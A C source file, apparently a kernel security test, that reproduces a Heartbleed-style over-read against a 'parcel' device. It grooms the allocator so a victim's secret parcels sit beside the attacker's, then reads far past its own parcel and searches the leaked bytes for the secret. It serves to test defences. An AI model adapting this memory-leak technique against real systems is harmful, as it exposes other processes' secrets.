// SPDX-License-Identifier: GPL-2.0-only
/*
 * Heartbleed's shape: read a range that begins inside one's own parcel and ends far outside it.
 * A victim's parcels lie next to the attacker's, as both come from the same allocator.
 */
#define _GNU_SOURCE
#include <string.h>

#include "attack.h"

#define SIZE		64	/* bytes of a parcel: its neighbours have the same size */
#define ROUNDS		12
#define NEIGHBOURS	16	/* parcels of the victim around each of the attacker's */
#define BEYOND		960

static long send_secret(struct victim_state *state, int command)
{
	(void)command;
	return parcel_send(state->file, state->box, state->secret, SIZE, NULL, 0);
}

int main(int argc, char **argv)
{
	static char bytes[BEYOND];
	char mine[SIZE] = "mine";
	__u32 parcels[ROUNDS], box;
	struct victim victim;
	char secret[SECRET_SIZE];
	int file, i, j, result;
	char *found;

	attack_begin(argc, argv);
	victim_start(&victim, send_secret);
	victim_secret(&victim, secret);
	file = device_open();
	box = private_box(file);

	for (i = 0; i < ROUNDS; i++) {
		for (j = 0; j < NEIGHBOURS; j++)
			must("send", victim_do(&victim, 0));
		must("send", parcel_send(file, box, mine, SIZE, NULL, 0));
		parcels[i] = parcel_take(file, box);
	}

	must("read one's own parcel", parcel_read(file, parcels[0], 0, bytes, SIZE));
	if (strcmp(bytes, mine))
		could_not("the parcel does not hold what was sent");

	for (i = 0; i < ROUNDS; i++) {
		result = parcel_read(file, parcels[i], SIZE, bytes, BEYOND);
		if (result < 0)
			refused("%s", error_name(result));
		found = memmem(bytes, BEYOND, secret, strlen(secret));
		if (!found)
			continue;
		achieved("leaks", "read %d bytes of another process's parcel and more: \"%s\"",
			 BEYOND, found);
	}
	achieved("leaks", "read %d bytes beyond my parcel, nobody's parcel there", BEYOND);
}
